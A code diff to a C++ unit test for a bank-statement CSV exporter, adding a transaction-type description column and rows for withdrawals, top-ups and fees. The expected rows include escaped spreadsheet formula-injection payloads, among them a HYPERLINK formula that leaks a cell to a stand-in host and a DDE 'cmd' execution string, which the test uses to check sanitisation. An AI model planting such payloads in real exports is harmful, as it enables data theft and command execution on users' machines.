@@ -168,23 +168,36 @@ TEST(StatementCsv, RowsReadBackByAnRfc4180Reader) {
         row("\tTAB", "1,00", "", 4),
         row("\rA CAPO", "1,00", "", 4),
         row("PAGAMENTO = 2 RATE", "=1+1", "", 4),
+        // Every type's name beside its code.
+        row("PRELIEVO ATM", "50,00", "", 0),
+        row("RICARICA CARTA LUMACARD", "", "10,00", 2),
+        row("RICARICA TELEFONICA", "5,00", "", 3),
+        row("COMMISSIONE", "1,00", "", -1),
     };
     std::vector<std::vector<std::string>> read;
     ASSERT_TRUE(test::readCsv(StatementCsv::write(rows), read));
     const std::vector<std::vector<std::string>> expected = {
-        {"data_contabile", "data_valuta", "descrizione", "importo", "tipo", "importo_originale"},
+        {"data_contabile", "data_valuta", "descrizione", "importo", "tipo", "tipo_descrizione",
+         "importo_originale"},
         {"2026-11-13", "2026-11-12", "PAGAMENTO POS BAR \"DA MARIO\", ROMA", "-1091.70", "4",
-         "-1.091,70"},
-        {"2026-11-13", "2026-11-12", "RICARICA CARTA\nDA SPORTELLO", "425.81", "1", "+425,81"},
-        {"2026-11-13", "2026-11-12", "CAFFÈ", "", "4", "'-n/d"},
+         "pagamento", "-1.091,70"},
+        {"2026-11-13", "2026-11-12", "RICARICA CARTA\nDA SPORTELLO", "425.81", "1",
+         "ricarica carta", "+425,81"},
+        {"2026-11-13", "2026-11-12", "CAFFÈ", "", "4", "pagamento", "'-n/d"},
         {"2026-11-13", "2026-11-12", "'=HYPERLINK(\"http://x.example/?\"&A1,\"Clic\")", "-91.70",
-         "4", "-91,70"},
-        {"2026-11-13", "2026-11-12", "'+cmd|' /C calc'!A0", "-1.00", "4", "-1,00"},
-        {"2026-11-13", "2026-11-12", "'-2+3", "-1.00", "4", "-1,00"},
-        {"2026-11-13", "2026-11-12", "'@SUM(A1:A9)", "-1.00", "4", "-1,00"},
-        {"2026-11-13", "2026-11-12", "'\tTAB", "-1.00", "4", "-1,00"},
-        {"2026-11-13", "2026-11-12", "'\rA CAPO", "-1.00", "4", "-1,00"},
-        {"2026-11-13", "2026-11-12", "PAGAMENTO = 2 RATE", "", "4", "'-=1+1"},
+         "4", "pagamento", "-91,70"},
+        {"2026-11-13", "2026-11-12", "'+cmd|' /C calc'!A0", "-1.00", "4", "pagamento", "-1,00"},
+        {"2026-11-13", "2026-11-12", "'-2+3", "-1.00", "4", "pagamento", "-1,00"},
+        {"2026-11-13", "2026-11-12", "'@SUM(A1:A9)", "-1.00", "4", "pagamento", "-1,00"},
+        {"2026-11-13", "2026-11-12", "'\tTAB", "-1.00", "4", "pagamento", "-1,00"},
+        {"2026-11-13", "2026-11-12", "'\rA CAPO", "-1.00", "4", "pagamento", "-1,00"},
+        {"2026-11-13", "2026-11-12", "PAGAMENTO = 2 RATE", "", "4", "pagamento", "'-=1+1"},
+        {"2026-11-13", "2026-11-12", "PRELIEVO ATM", "-50.00", "0", "prelievo", "-50,00"},
+        {"2026-11-13", "2026-11-12", "RICARICA CARTA LUMACARD", "10.00", "2",
+         "ricarica carta Lumacard", "+10,00"},
+        {"2026-11-13", "2026-11-12", "RICARICA TELEFONICA", "-5.00", "3", "ricarica telefonica",
+         "-5,00"},
+        {"2026-11-13", "2026-11-12", "COMMISSIONE", "-1.00", "-1", "altro", "-1,00"},
     };
     EXPECT_EQ(read, expected);
     EXPECT_EQ(StatementCsv::write({}), std::string(StatementCsv::kHeader) + "\r\n");
